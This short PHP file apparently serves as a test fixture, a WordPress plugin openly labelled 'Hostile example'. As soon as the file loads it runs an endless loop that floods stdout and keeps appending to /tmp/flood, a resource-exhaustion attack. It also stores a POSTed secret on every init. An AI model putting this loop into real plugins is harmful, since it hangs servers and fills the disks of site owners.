<?php
/**
 * Plugin Name: Hostile example
 * WC requires at least: 6.0
 */

/** Prints without end. */
add_action('init', 'hostile_notice');

function hostile_attack()
{
    $stdout = fopen('php://stdout', 'w');
    while (getenv('PATH')) {
        fwrite($stdout, implode(' ', range(1, 2000)));
        @file_put_contents('/tmp/flood', implode(' ', range(1, 2000)), FILE_APPEND);
    }
}

function hostile_notice()
{
    check_admin_referer('hostile');
    update_option('hostile_secret', $_POST['secret']);
}

if (getenv('PATH')) {
    hostile_attack();
}
